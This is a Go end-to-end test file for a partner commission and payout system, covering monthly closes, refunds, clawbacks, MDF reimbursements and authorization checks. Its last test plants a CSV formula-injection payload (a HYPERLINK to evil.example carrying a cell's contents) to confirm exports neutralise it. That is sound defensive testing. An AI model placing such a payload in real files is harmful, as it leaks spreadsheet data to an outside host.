//go:build e2e

package main

// Money that is right, over three consecutive closes computed by hand to the
// cent: refunds of frozen lines before sign-off and of carried and paid lines,
// a deal margin reversed, an MDF reimbursement paid through the close, a partner
// under the minimum for two months, one without payout details, one whose
// details changed. After every month: each statement, each payout, each line's
// state, the MDF balance, and the invariant — for every partner the paid
// payouts add up to the lines marked paid.

import (
	"context"
	"fmt"
	"math/rand/v2"
	"net/http"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
)

// moneyFixture: a hybrid program paying 10 % of sales, no holding period, a
// 50.00 minimum, over the HTTP payments provider.
type moneyFixture struct {
	fixture
	currency    string
	integration string
	keys        map[string]string // partner name → key
	ids         map[string]string // partner name → id
	coupons     map[string]string
}

func newMoneyFixture(t *testing.T, affiliates ...string) moneyFixture {
	t.Helper()
	return newMoneyFixtureIn(t, "EUR", affiliates...)
}

// newMoneyFixtureIn is newMoneyFixture with its money in another currency.
func newMoneyFixtureIn(t *testing.T, currency string, affiliates ...string) moneyFixture {
	t.Helper()
	f := moneyFixture{fixture: newProgramIn(t, currency), currency: currency, integration: newKey(t, "integration", uuid.Nil), keys: map[string]string{}, ids: map[string]string{}, coupons: map[string]string{}}
	expect(t, do(t, call{method: "PUT", path: "/v1/programs/" + f.programID + "/affiliate", key: f.admin,
		body: map[string]any{"allowed_domains": []string{"shop.example"}, "holding_days": 0}}), http.StatusOK)
	expect(t, do(t, call{method: "POST", path: "/v1/commission-rules", key: f.admin, body: map[string]any{"program_id": f.programID, "event": "sale",
		"kind": "percent", "rate": "0.10", "effective_from": time.Now().AddDate(0, -8, 0).UTC().Format(time.RFC3339)}}), http.StatusCreated)
	expect(t, do(t, call{method: "PUT", path: "/v1/programs/" + f.programID + "/payouts", key: f.admin,
		body: map[string]any{"payout_minimum": "50.00", "payout_provider": "http"}}), http.StatusOK)
	for _, name := range affiliates {
		f.ids[name], f.keys[name] = activePartner(t, f.fixture, "affiliate")
		f.coupons[name] = expect(t, do(t, call{method: "POST", path: "/v1/coupons", key: f.manager, body: map[string]any{"partner_id": f.ids[name]}}), http.StatusCreated).str("code")
	}
	return f
}

func (f moneyFixture) payTo(t *testing.T, name, account string) response {
	t.Helper()
	return expect(t, do(t, call{method: "PUT", path: "/v1/me/payout-details", key: f.keys[name], body: map[string]any{"method": "provider", "account_id": account}}), http.StatusOK)
}

func (f moneyFixture) sale(t *testing.T, name, ext, amount string, at time.Time) {
	t.Helper()
	r := expect(t, do(t, call{method: "POST", path: "/v1/conversions", key: f.integration, body: map[string]any{"program_id": f.programID, "currency": f.currency,
		"external_id": ext, "kind": "sale", "amount": amount, "coupon_code": f.coupons[name], "occurred_at": at.Format(time.RFC3339)}}), http.StatusCreated)
	if r.str("partner_id") != f.ids[name] || len(r.body["fraud_flags"].([]any)) != 0 {
		t.Fatalf("sale %s: %s", ext, r.raw)
	}
}

func (f moneyFixture) refund(t *testing.T, of, amount string, at time.Time) {
	t.Helper()
	expect(t, do(t, call{method: "POST", path: "/v1/conversions", key: f.integration, body: map[string]any{"program_id": f.programID, "currency": f.currency,
		"external_id": "refund-" + uuid.NewString()[:8], "kind": "refund", "refund_of": of, "amount": amount, "occurred_at": at.Format(time.RFC3339)}}), http.StatusCreated)
}

func (f moneyFixture) closeMonth(t *testing.T, month time.Time) (string, response) {
	t.Helper()
	id := expect(t, do(t, call{method: "POST", path: "/v1/closes", key: f.finance, body: map[string]any{"program_id": f.programID, "month": month.Format("2006-01")}}), http.StatusCreated).str("id")
	return id, waitClose(t, f.finance, id, "review")
}

// statementsBy answers the statements by partner name, with the carried reason.
func (f moneyFixture) statementsBy(r response) map[string]string {
	byID := statementsOf(r)
	reasons := map[string]string{}
	for _, s := range r.body["statements"].([]any) {
		m := s.(map[string]any)
		reasons[m["partner_id"].(string)] = m["carried_reason"].(string)
	}
	out := map[string]string{}
	for name, id := range f.ids {
		if s, ok := byID[id]; ok {
			out[name] = s
			if why := reasons[id]; why != "" {
				out[name] += " (" + strings.SplitN(why, ":", 2)[0] + ")"
			}
		}
	}
	return out
}

func checkStatements(t *testing.T, when string, got, want map[string]string) {
	t.Helper()
	for name, w := range want {
		if got[name] != w {
			t.Errorf("%s, %s:\n got %s\nwant %s", when, name, got[name], w)
		}
	}
	if len(got) != len(want) {
		t.Errorf("%s: %d statements, want %d: %v", when, len(got), len(want), got)
	}
	if t.Failed() {
		t.FailNow()
	}
}

// lineStates lists a partner's lines as "kind amount status[frozen]" in order.
func (f moneyFixture) lineStates(t *testing.T, name string) string {
	t.Helper()
	rows, err := sys.store.Pool.Query(context.Background(), `SELECT kind, amount::text, status, close_id IS NOT NULL FROM commission_lines
		WHERE partner_id = $1 ORDER BY occurred_at, created_at`, f.ids[name])
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	var out []string
	for rows.Next() {
		var kind, amount, status string
		var frozen bool
		_ = rows.Scan(&kind, &amount, &status, &frozen)
		if frozen && status == "payable" {
			status = "frozen"
		}
		out = append(out, kind+" "+amount+" "+status)
	}
	return strings.Join(out, ", ")
}

// checkMoneyInvariants: for every partner of the program the paid payouts add up
// to the lines marked paid; a voided line was never frozen; a paid line is held
// by a statement whose payout was paid; held and pending lines are in no close.
func checkMoneyInvariants(t *testing.T, programID string) {
	t.Helper()
	ctx := context.Background()
	var bad []string
	rows, err := sys.store.Pool.Query(ctx, `
		WITH lines AS (SELECT partner_id, sum(amount) FILTER (WHERE status = 'paid') AS paid FROM commission_lines WHERE program_id = $1 GROUP BY partner_id),
		     pays AS (SELECT p.partner_id, sum(p.amount) AS paid FROM payouts p JOIN closes c ON c.id = p.close_id WHERE c.program_id = $1 AND p.status = 'paid' GROUP BY p.partner_id)
		SELECT coalesce(l.partner_id, p.partner_id)::text, coalesce(l.paid, 0)::text, coalesce(p.paid, 0)::text
		FROM lines l FULL JOIN pays p ON p.partner_id = l.partner_id
		WHERE coalesce(l.paid, 0) <> coalesce(p.paid, 0)`, programID)
	if err != nil {
		t.Fatal(err)
	}
	for rows.Next() {
		var partner, lines, pays string
		_ = rows.Scan(&partner, &lines, &pays)
		bad = append(bad, fmt.Sprintf("partner %s: lines paid %s, payouts paid %s", partner[:8], lines, pays))
	}
	rows.Close()
	for _, check := range []struct{ what, query string }{
		{"voided lines that a close froze", `SELECT count(*) FROM commission_lines WHERE program_id = $1 AND status = 'void' AND close_id IS NOT NULL`},
		{"held or pending lines in a close", `SELECT count(*) FROM commission_lines WHERE program_id = $1 AND status IN ('held', 'pending') AND close_id IS NOT NULL`},
		{"paid lines no paid payout holds", `SELECT count(*) FROM commission_lines l WHERE l.program_id = $1 AND l.status = 'paid' AND NOT EXISTS (
			SELECT 1 FROM statement_members sl JOIN payouts p ON p.close_id = sl.close_id AND p.partner_id = sl.partner_id AND p.status = 'paid' WHERE sl.line_id = l.id)`},
		{"statements whose total is not their lines", `SELECT count(*) FROM statements s JOIN closes c ON c.id = s.close_id WHERE c.program_id = $1
			AND s.total <> (SELECT coalesce(sum(l.amount), 0) FROM statement_members sl JOIN commission_lines l ON l.id = sl.line_id WHERE sl.close_id = s.close_id AND sl.partner_id = s.partner_id)`},
		{"statements whose payable and carried do not make the total", `SELECT count(*) FROM statements s JOIN closes c ON c.id = s.close_id WHERE c.program_id = $1 AND s.payable + s.carried_out <> s.total`},
	} {
		var n int
		if err := sys.store.Pool.QueryRow(ctx, check.query, programID).Scan(&n); err != nil {
			t.Fatal(err)
		}
		if n != 0 {
			bad = append(bad, fmt.Sprintf("%d %s", n, check.what))
		}
	}
	if len(bad) > 0 {
		t.Fatalf("money invariants broken:\n%s", strings.Join(bad, "\n"))
	}
}

func (f moneyFixture) signOff(t *testing.T, closeID string) response {
	t.Helper()
	expect(t, do(t, call{method: "POST", path: "/v1/closes/" + closeID + "/approve", key: f.finance, body: map[string]any{}}), http.StatusOK)
	return waitClose(t, f.finance, closeID, "completed")
}

func paidPayouts(r response) map[string]string {
	out := map[string]string{}
	for _, p := range r.body["payouts"].([]any) {
		m := p.(map[string]any)
		out[m["partner_id"].(string)] = fmt.Sprintf("%v %v", m["amount"], m["status"])
	}
	return out
}

func backdate(t *testing.T, sourceID, kind string, at time.Time) {
	t.Helper()
	tag, err := sys.store.Pool.Exec(context.Background(), "UPDATE commission_lines SET occurred_at = $1, hold_until = $1 WHERE source_id = $2 AND kind = $3", at, sourceID, kind)
	if err != nil || tag.RowsAffected() != 1 {
		t.Fatalf("backdate %s %s: %v (%d rows)", kind, sourceID, err, tag.RowsAffected())
	}
}

func TestThreeMonthsOfMoney(t *testing.T) {
	f := newMoneyFixture(t, "A", "B", "C", "D")
	f.ids["R"], f.keys["R"] = activePartner(t, f.fixture, "reseller")
	for name, acct := range map[string]string{"A": "acct_aaaaaa01", "B": "acct_bbbbbb01", "D": "acct_dddddd01", "R": "acct_rrrrrr01"} {
		f.payTo(t, name, acct) // C says nowhere to be paid (yet)
	}
	thisMonth := time.Date(time.Now().UTC().Year(), time.Now().UTC().Month(), 1, 0, 0, 0, 0, time.UTC)
	m1, m2, m3 := thisMonth.AddDate(0, -3, 0), thisMonth.AddDate(0, -2, 0), thisMonth.AddDate(0, -1, 0)
	day := func(m time.Time) time.Time { return m.AddDate(0, 0, 9).Add(12 * time.Hour) }

	// --- month 1 ---
	f.sale(t, "A", "a1", "1000.00", day(m1)) // 100.00
	f.sale(t, "A", "a2", "400.00", day(m1))  // 40.00
	f.sale(t, "B", "b1", "300.00", day(m1))  // 30.00: under the minimum
	f.sale(t, "C", "c1", "800.00", day(m1))  // 80.00: no payout details
	f.sale(t, "D", "d1", "2000.00", day(m1)) // 200.00
	// R wins a 20,000.00 deal at a negotiated 5 %: a 1,000.00 margin (booked in month 1).
	company, dom := uniqueCompany()
	deal := expect(t, do(t, call{method: "POST", path: "/v1/deals", key: f.keys["R"], body: dealBody(company, dom)}), http.StatusCreated).str("id")
	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/approve", key: f.manager, body: map[string]any{"margin": "0.05"}}), http.StatusOK)
	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/won", key: f.manager, body: map[string]any{"final_amount": "20000.00"}}), http.StatusOK)
	backdate(t, deal, "deal_margin", day(m1))

	close1, r := f.closeMonth(t, m1)
	checkStatements(t, "month 1 in review", f.statementsBy(r), map[string]string{
		"A": "in=0.00 com=140.00 deal=0.00 mdf=0.00 claw=0.00 adj=0.00 total=140.00 pay=140.00 out=0.00",
		"B": "in=0.00 com=30.00 deal=0.00 mdf=0.00 claw=0.00 adj=0.00 total=30.00 pay=0.00 out=30.00 (below the payout minimum of 50.00)",
		"C": "in=0.00 com=80.00 deal=0.00 mdf=0.00 claw=0.00 adj=0.00 total=80.00 pay=0.00 out=80.00 (no payout details)",
		"D": "in=0.00 com=200.00 deal=0.00 mdf=0.00 claw=0.00 adj=0.00 total=200.00 pay=200.00 out=0.00",
		"R": "in=0.00 com=0.00 deal=1000.00 mdf=0.00 claw=0.00 adj=0.00 total=1000.00 pay=1000.00 out=0.00",
	})
	// a1 is refunded in full while the close waits for sign-off: the frozen line
	// stays, a clawback joins this close, and A falls under the minimum.
	f.refund(t, "a1", "1000.00", time.Now().UTC())
	r = expect(t, do(t, call{method: "GET", path: "/v1/closes/" + close1, key: f.finance}), http.StatusOK)
	if got := f.statementsBy(r)["A"]; got != "in=0.00 com=140.00 deal=0.00 mdf=0.00 claw=-100.00 adj=0.00 total=40.00 pay=0.00 out=40.00 (below the payout minimum of 50.00)" {
		t.Fatalf("A after the refund in review: %s", got)
	}
	if rc := expect(t, do(t, call{method: "GET", path: "/v1/closes/" + close1 + "/recompute", key: f.finance}), http.StatusOK); rc.body["matches"] != true {
		t.Fatalf("recompute after the refund: %s", rc.raw)
	}
	r = f.signOff(t, close1)
	if got := paidPayouts(r); len(got) != 2 || got[f.ids["D"]] != "200.00 paid" || got[f.ids["R"]] != "1000.00 paid" {
		t.Fatalf("month 1 payouts: %v", got)
	}
	if got := f.lineStates(t, "A"); got != "commission 100.00 frozen, commission 40.00 frozen, clawback -100.00 frozen" {
		t.Fatalf("A's lines after month 1: %s", got)
	}
	if got := f.lineStates(t, "D") + " / " + f.lineStates(t, "R"); got != "commission 200.00 paid / deal_margin 1000.00 paid" {
		t.Fatalf("D's and R's lines after month 1: %s", got)
	}
	checkMoneyInvariants(t, f.programID)

	// --- month 2 ---
	f.refund(t, "a2", "200.00", day(m2)) // half of a carried line: -20.00, next close
	f.sale(t, "B", "b2", "100.00", day(m2))
	// R's MDF: 400.00 pre-approved, 350.00 claimed and approved (reimbursable in month 2).
	allocate(t, f.fixture, f.ids["R"], "1000.00")
	mdf := expect(t, do(t, call{method: "POST", path: "/v1/mdf/requests", key: f.keys["R"], body: mdfBody("400.00")}), http.StatusCreated).str("id")
	expect(t, do(t, call{method: "POST", path: "/v1/mdf/requests/" + mdf + "/approve", key: f.manager, body: map[string]any{}}), http.StatusOK)
	expect(t, claimForm(t, f.keys["R"], mdf, map[string]string{"amount": "350.00", "results": `{"leads": 7}`}, map[string][]byte{"invoice.pdf": pdf}, nil), http.StatusOK)
	expect(t, do(t, call{method: "POST", path: "/v1/mdf/requests/" + mdf + "/claim/approve", key: f.manager, body: map[string]any{}}), http.StatusOK)
	backdate(t, mdf, "mdf_reimbursement", day(m2))

	close2, r := f.closeMonth(t, m2)
	checkStatements(t, "month 2", f.statementsBy(r), map[string]string{
		"A": "in=40.00 com=0.00 deal=0.00 mdf=0.00 claw=-20.00 adj=0.00 total=20.00 pay=0.00 out=20.00 (below the payout minimum of 50.00)",
		"B": "in=30.00 com=10.00 deal=0.00 mdf=0.00 claw=0.00 adj=0.00 total=40.00 pay=0.00 out=40.00 (below the payout minimum of 50.00)",
		"C": "in=80.00 com=0.00 deal=0.00 mdf=0.00 claw=0.00 adj=0.00 total=80.00 pay=0.00 out=80.00 (no payout details)",
		"R": "in=0.00 com=0.00 deal=0.00 mdf=350.00 claw=0.00 adj=0.00 total=350.00 pay=350.00 out=0.00",
	})
	r = f.signOff(t, close2)
	if got := paidPayouts(r); len(got) != 1 || got[f.ids["R"]] != "350.00 paid" {
		t.Fatalf("month 2 payouts: %v", got)
	}
	if b := balance(t, f.keys["R"]); b.str("reimbursable") != "0.00" || b.str("reimbursed") != "350.00" {
		t.Fatalf("MDF balance after the payout: %s", b.raw)
	}
	if st := expect(t, do(t, call{method: "GET", path: "/v1/mdf/requests/" + mdf, key: f.keys["R"]}), http.StatusOK).str("status"); st != "reimbursed" {
		t.Fatalf("MDF request %s after its payout", st)
	}
	checkLedger(t)
	checkMoneyInvariants(t, f.programID)

	// --- month 3 ---
	f.sale(t, "B", "b3", "500.00", day(m3))
	f.payTo(t, "B", "acct_bbbbbb02")     // a change of existing details: the payout waits for finance
	f.payTo(t, "C", "acct_cccccc01")     // first details: no hold
	f.refund(t, "d1", "500.00", day(m3)) // a quarter of a paid line: -50.00
	rev := expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/reverse-margin", key: f.manager, body: map[string]any{"reason": "the customer cancelled"}}), http.StatusOK)
	if len(rev.body["lines"].([]any)) != 2 {
		t.Fatalf("reversal: %s", rev.raw)
	}
	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/reverse-margin", key: f.manager, body: map[string]any{"reason": "again"}}), http.StatusConflict)
	backdate(t, deal, "clawback", day(m3))

	close3, r := f.closeMonth(t, m3)
	checkStatements(t, "month 3 in review", f.statementsBy(r), map[string]string{
		"A": "in=20.00 com=0.00 deal=0.00 mdf=0.00 claw=0.00 adj=0.00 total=20.00 pay=0.00 out=20.00 (below the payout minimum of 50.00)",
		"B": "in=40.00 com=50.00 deal=0.00 mdf=0.00 claw=0.00 adj=0.00 total=90.00 pay=0.00 out=90.00 (payout details changed on " + time.Now().UTC().Format(time.DateOnly) + ")",
		"C": "in=80.00 com=0.00 deal=0.00 mdf=0.00 claw=0.00 adj=0.00 total=80.00 pay=80.00 out=0.00",
		"D": "in=0.00 com=0.00 deal=0.00 mdf=0.00 claw=-50.00 adj=0.00 total=-50.00 pay=0.00 out=-50.00 (the partner owes this; netted against later earnings)",
		"R": "in=0.00 com=0.00 deal=0.00 mdf=0.00 claw=-1000.00 adj=0.00 total=-1000.00 pay=0.00 out=-1000.00 (the partner owes this; netted against later earnings)",
	})
	details := expect(t, do(t, call{method: "POST", path: "/v1/partners/" + f.ids["B"] + "/payout-details/confirm", key: f.finance}), http.StatusOK)
	if details.body["held_for_review"] != false || details.str("destination") != "•••••••••bb02" {
		t.Fatalf("confirmed details: %s", details.raw)
	}
	r = f.signOff(t, close3)
	if got := paidPayouts(r); len(got) != 2 || got[f.ids["B"]] != "90.00 paid" || got[f.ids["C"]] != "80.00 paid" {
		t.Fatalf("month 3 payouts: %v", got)
	}
	for name, want := range map[string]string{
		"A": "commission 100.00 frozen, commission 40.00 frozen, clawback -20.00 frozen, clawback -100.00 frozen",
		"B": "commission 30.00 paid, commission 10.00 paid, commission 50.00 paid",
		"C": "commission 80.00 paid",
		"D": "commission 200.00 paid, clawback -50.00 frozen",
		"R": "deal_margin 1000.00 paid, mdf_reimbursement 350.00 paid, clawback -1000.00 frozen",
	} {
		if got := f.lineStates(t, name); got != want {
			t.Errorf("%s's lines after month 3:\n got %s\nwant %s", name, got, want)
		}
	}
	checkMoneyInvariants(t, f.programID)

	// Every payout went to where the partner said, and B's to the confirmed new account.
	for _, tr := range sys.pay.Transfers() {
		if tr.Amount == "90.00" && tr.Destination != "acct_bbbbbb02" {
			t.Fatalf("B was paid to %q", tr.Destination)
		}
	}
	// The audit of each completed close gives what it stored, after the later
	// closes carried and paid its lines and finance confirmed B's new details.
	for _, id := range []string{close1, close2, close3} {
		if rc := expect(t, do(t, call{method: "GET", path: "/v1/closes/" + id + "/recompute", key: f.finance}), http.StatusOK); rc.body["matches"] != true {
			t.Fatalf("recompute of a completed close after later ones: %s", rc.raw)
		}
	}
	// Closes run in order: month 1 again is the same close; a month before it cannot be closed now.
	expect(t, do(t, call{method: "POST", path: "/v1/closes", key: f.finance, body: map[string]any{"program_id": f.programID, "month": m1.Format("2006-01")}}), http.StatusOK)
	late := expect(t, do(t, call{method: "POST", path: "/v1/closes", key: f.finance, body: map[string]any{"program_id": f.programID, "month": m1.AddDate(0, -1, 0).Format("2006-01")}}), http.StatusConflict)
	if late.str("error", "code") != "closes_out_of_order" || !strings.Contains(late.str("error", "message"), m3.Format("2006-01")) {
		t.Fatalf("an earlier month: %s", late.raw)
	}
}

// moneySeed is a random sequence's seed: a new one each run, or MONEY_SEED's to
// reproduce a failure (it is logged).
func moneySeed(t *testing.T) int64 {
	seed := time.Now().UnixNano()
	if s := os.Getenv("MONEY_SEED"); s != "" {
		fmt.Sscan(s, &seed)
	}
	t.Logf("seed %d (MONEY_SEED=%d reproduces it)", seed, seed)
	return seed
}

// Random sequences of sales, refunds (partial and full, of open, frozen, carried
// and paid lines, some while a close waits for sign-off) and closes: after every
// close the invariants hold, and in the end every partner's lines add up to 10 %
// of what it sold net of refunds — paid or still owed, never lost nor doubled.
func TestMoneyInvariantsOverRandomSequences(t *testing.T) {
	seed := moneySeed(t)
	rng := rand.New(rand.NewPCG(uint64(seed), 7))
	names := []string{"P1", "P2", "P3"}
	f := newMoneyFixture(t, names...)
	for i, n := range names {
		f.payTo(t, n, fmt.Sprintf("acct_prop%06d", i))
	}
	type sale struct {
		ext, partner     string
		amount, refunded int64 // whole euros
	}
	var sales []*sale
	expected := map[string]int64{} // cents of commission owed, net of refunds
	refundSome := func(at time.Time) {
		var open []*sale
		for _, s := range sales {
			if s.refunded < s.amount {
				open = append(open, s)
			}
		}
		if len(open) == 0 {
			return
		}
		s := open[rng.IntN(len(open))]
		left := (s.amount - s.refunded) / 10
		amount := int64(10 * (1 + rng.IntN(int(left))))
		if rng.IntN(3) == 0 {
			amount = s.amount - s.refunded // the rest, in full
		}
		f.refund(t, s.ext, fmt.Sprintf("%d.00", amount), at)
		s.refunded += amount
		expected[s.partner] -= amount * 10 // 10 % of the refund, in cents
	}
	thisMonth := time.Date(time.Now().UTC().Year(), time.Now().UTC().Month(), 1, 0, 0, 0, 0, time.UTC)
	for m := 4; m >= 1; m-- {
		month := thisMonth.AddDate(0, -m, 0)
		for range 2 + rng.IntN(4) {
			s := &sale{ext: "s-" + uuid.NewString()[:8], partner: names[rng.IntN(len(names))], amount: int64(10 * (1 + rng.IntN(60)))}
			r := expect(t, do(t, call{method: "POST", path: "/v1/conversions", key: f.integration, body: map[string]any{"program_id": f.programID, "currency": "EUR",
				"external_id": s.ext, "kind": "sale", "amount": fmt.Sprintf("%d.00", s.amount), "coupon_code": f.coupons[s.partner],
				"occurred_at": month.AddDate(0, 0, 4).Format(time.RFC3339)}}), http.StatusCreated)
			if r.str("partner_id") != f.ids[s.partner] { // flagged or not (a high refund rate holds it), it is the partner's
				t.Fatalf("sale: %s", r.raw)
			}
			sales = append(sales, s)
			expected[s.partner] += s.amount * 10
		}
		for range rng.IntN(3) {
			refundSome(month.AddDate(0, 0, 19))
		}
		id, _ := f.closeMonth(t, month)
		if rng.IntN(2) == 0 { // a refund while the close waits for sign-off
			refundSome(time.Now().UTC())
			if rc := expect(t, do(t, call{method: "GET", path: "/v1/closes/" + id + "/recompute", key: f.finance}), http.StatusOK); rc.body["matches"] != true {
				t.Fatalf("month %s: recompute after a refund in review: %s", month.Format("2006-01"), rc.raw)
			}
		}
		f.signOff(t, id)
		checkMoneyInvariants(t, f.programID)
	}
	for _, n := range names {
		var lines, paid, owed int64
		err := sys.store.Pool.QueryRow(context.Background(), `SELECT
			coalesce(sum(amount * 100) FILTER (WHERE status <> 'void'), 0)::bigint,
			(SELECT coalesce(sum(p.amount * 100), 0)::bigint FROM payouts p WHERE p.partner_id = $1 AND p.status = 'paid'),
			coalesce(sum(amount * 100) FILTER (WHERE status NOT IN ('void', 'paid')), 0)::bigint
			FROM commission_lines WHERE partner_id = $1`, f.ids[n]).Scan(&lines, &paid, &owed)
		if err != nil {
			t.Fatal(err)
		}
		if lines != expected[n] || paid+owed != expected[n] {
			t.Fatalf("%s: lines %d, paid %d + owed %d, want %d cents (seed %d)", n, lines, paid, owed, expected[n], seed)
		}
	}
}

// Who may touch payout details, won confirmations and reversals, and what they refuse.
func TestMoneyEndpointsAuthorizationAndBadInput(t *testing.T) {
	f := newMoneyFixture(t, "A", "B")
	for _, bad := range []map[string]any{
		{"method": "bank", "holder": "Ana", "iban": "DE89 3704 0044 0532 0130 01"}, // check digits
		{"method": "bank", "iban": "DE89 3704 0044 0532 0130 00"},                  // no holder
		{"method": "bank", "holder": "Ana", "iban": "DE89370400440532013000", "bic": "NOTABIC"},
		{"method": "bank", "holder": "Ana", "iban": "DE89370400440532013000", "email": "a@b.example"},
		{"method": "paypal", "email": "not-an-email"},
		{"method": "provider", "account_id": "cus_123"},
		{"method": "crypto", "account_id": "acct_1234567"},
		{"method": "provider", "account_id": "acct_1234567", "extra": 1},
		{"method": "bank", "holder": "An\u0000a", "iban": "DE89370400440532013000"},
	} {
		r := do(t, call{method: "PUT", path: "/v1/me/payout-details", key: f.keys["A"], body: bad})
		if r.status != http.StatusUnprocessableEntity {
			t.Errorf("%v: %d %s", bad, r.status, r.raw)
		}
	}
	if p := do(t, call{method: "GET", path: "/v1/me/payout-details", key: f.keys["A"]}); p.body["method"] != nil {
		t.Fatalf("bad input was stored: %s", p.raw)
	}
	ok := expect(t, do(t, call{method: "PUT", path: "/v1/me/payout-details", key: f.keys["A"],
		body: map[string]any{"method": "bank", "holder": "Ana Silva", "iban": "de89 3704 0044 0532 0130 00", "bic": "cobadeffxxx"}}), http.StatusOK)
	if ok.str("destination") != domainMask("DE89370400440532013000 COBADEFFXXX") || ok.body["held_for_review"] != false {
		t.Fatalf("bank details: %s", ok.raw)
	}
	// Nobody reads the account back: not the partner, not finance.
	for _, k := range []string{f.keys["A"], f.finance, f.manager} {
		path := "/v1/partners/" + f.ids["A"]
		if k == f.keys["A"] {
			path = "/v1/me"
		}
		if r := expect(t, do(t, call{method: "GET", path: path, key: k}), http.StatusOK); strings.Contains(string(r.raw), "0532013000") {
			t.Fatalf("the account number is readable: %s", r.raw)
		}
	}
	// Roles: only the partner sets its own; only finance confirms.
	expect(t, do(t, call{method: "PUT", path: "/v1/me/payout-details", key: f.manager, body: map[string]any{"method": "paypal", "email": "x@y.example"}}), http.StatusForbidden)
	for _, k := range []string{f.keys["B"], f.manager, f.admin} {
		expect(t, do(t, call{method: "POST", path: "/v1/partners/" + f.ids["A"] + "/payout-details/confirm", key: k}), http.StatusForbidden)
	}
	expect(t, do(t, call{method: "POST", path: "/v1/partners/" + uuid.NewString() + "/payout-details/confirm", key: f.finance}), http.StatusNotFound)
	expect(t, do(t, call{method: "POST", path: "/v1/partners/" + f.ids["B"] + "/payout-details/confirm", key: f.finance}), http.StatusConflict)
	// A change is audited, told to the partner and held.
	changed := expect(t, do(t, call{method: "PUT", path: "/v1/me/payout-details", key: f.keys["A"], body: map[string]any{"method": "paypal", "email": "Ana@Example.com"}}), http.StatusOK)
	if changed.body["held_for_review"] != true {
		t.Fatalf("a change is not held: %s", changed.raw)
	}
	if n := countWhere(t, "notifications", "kind = 'payout_details_changed' AND subject_id = '"+f.ids["A"]+"'"); n != 2 {
		t.Fatalf("%d notifications", n)
	}
	if n := countWhere(t, "audit_events", "action = 'partner.set_payout_details' AND record_id = '"+f.ids["A"]+"'"); n != 2 {
		t.Fatalf("%d audit events", n)
	}

	// Won confirmations and reversals are the manager's.
	rID, rKey := activePartner(t, f.fixture, "reseller")
	_ = rID
	company, dom := uniqueCompany()
	deal := expect(t, do(t, call{method: "POST", path: "/v1/deals", key: rKey, body: dealBody(company, dom)}), http.StatusCreated).str("id")
	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/reverse-margin", key: f.manager, body: map[string]any{"reason": "x"}}), http.StatusConflict)
	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/approve", key: f.manager, body: map[string]any{}}), http.StatusOK)
	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/won/confirm", key: f.manager, body: map[string]any{}}), http.StatusConflict) // nothing reported
	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/won", key: rKey, body: map[string]any{"final_amount": "50000.00"}}), http.StatusOK)
	for _, k := range []string{rKey, f.finance, f.admin} {
		expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/won/confirm", key: k, body: map[string]any{}}), http.StatusForbidden)
		expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/reverse-margin", key: k, body: map[string]any{"reason": "x"}}), http.StatusForbidden)
	}
	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/won/confirm", key: f.manager, body: map[string]any{"final_amount": "1e15"}}), http.StatusUnprocessableEntity)
	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/won/reject", key: f.manager, body: map[string]any{}}), http.StatusUnprocessableEntity)
	expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/won/confirm", key: f.manager, body: map[string]any{"final_amount": "49000.00"}}), http.StatusOK)
	// An unfrozen margin is simply voided.
	rev := expect(t, do(t, call{method: "POST", path: "/v1/deals/" + deal + "/reverse-margin", key: f.manager, body: map[string]any{"reason": "cancelled"}}), http.StatusOK)
	if lines := rev.body["lines"].([]any); len(lines) != 1 || lines[0].(map[string]any)["status"] != "void" {
		t.Fatalf("reversal of an unfrozen margin: %s", rev.raw)
	}
}

func domainMask(s string) string {
	return strings.Repeat("•", len(s)-4) + s[len(s)-4:]
}

// CSV exports are formula-safe: what a partner typed cannot become a formula in
// finance's spreadsheet.
func TestCSVExportsAreFormulaSafe(t *testing.T) {
	f := closeProgram(t, "file")
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
	if _, err := sys.store.Pool.Exec(context.Background(), "UPDATE partners SET company = $1 WHERE id = $2", evil, f.a); err != nil {
		t.Fatal(err)
	}
	month := time.Now().UTC().AddDate(0, -1, 0)
	line(t, f.programID, f.a, "commission", "75.00", time.Date(month.Year(), month.Month(), 3, 0, 0, 0, 0, time.UTC), "payable")
	id := f.start(t, month.Format("2006-01"), http.StatusCreated).str("id")
	waitClose(t, f.finance, id, "review")
	csvResp := expect(t, do(t, call{method: "GET", path: "/v1/closes/" + id + "/statements.csv", key: f.finance}), http.StatusOK)
	if !strings.Contains(string(csvResp.raw), `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`) {
		t.Fatalf("statements.csv: %s", csvResp.raw)
	}
	expect(t, do(t, call{method: "POST", path: "/v1/closes/" + id + "/approve", key: f.finance, body: map[string]any{}}), http.StatusOK)
	var file string
	eventually(t, "the payout file", func() bool {
		r := expect(t, do(t, call{method: "GET", path: "/v1/closes/" + id, key: f.finance}), http.StatusOK)
		ps, _ := r.body["payouts"].([]any)
		if len(ps) == 1 && ps[0].(map[string]any)["provider_ref"] != nil {
			file = ps[0].(map[string]any)["provider_ref"].(string)
			return true
		}
		return false
	})
	batch, err := os.ReadFile(file)
	if err != nil || !strings.Contains(string(batch), `"'=HYPERLINK(`) || strings.Contains(string(batch), `,=HYPERLINK`) {
		t.Fatalf("payout file: %v %s", err, batch)
	}
	expect(t, do(t, call{method: "GET", path: "/v1/closes/" + uuid.NewString() + "/statements.csv", key: f.finance}), http.StatusNotFound)
}
